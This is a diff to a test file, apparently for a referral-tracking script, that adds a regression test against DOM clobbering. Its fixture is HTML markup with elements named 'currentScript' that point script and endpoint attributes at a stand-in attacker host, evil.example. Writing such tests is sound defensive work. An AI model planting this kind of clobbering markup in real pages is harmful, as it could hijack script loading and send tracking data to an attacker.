@@ -109,6 +109,18 @@ def test_where_json_is_replaced_nothing_is_sent_and_nothing_broken(visit: Visit)
     visit.expect("sale")
 
 
+CLOBBERING = """<img name=currentScript src="http://evil.example/prm.js" data-site=pk_evil data-endpoint="http://evil.example/e">
+<form name=currentScript><input name=src value="http://evil.example/x"></form>"""
+
+
+def test_an_element_that_is_named_like_the_script_is_not_taken_for_it(visit: Visit) -> None:
+    visit.put("/", CLOBBERING)
+    visit.open("/?ref=alice")
+    visit.do(SALE)
+    click, sale = visit.expect("click", "sale")
+    assert (click.ref, sale.amount_minor) == ("alice", 100)
+
+
 def test_a_prm_of_the_pages_own_is_left_alone(visit: Visit) -> None:
     visit.put("/", "<script>self.prm = { theirs: true }</script>", "<script>onload = () => { self.ready = 1 }</script>")
     visit.tab.open(visit.site.url("/?ref=alice"))
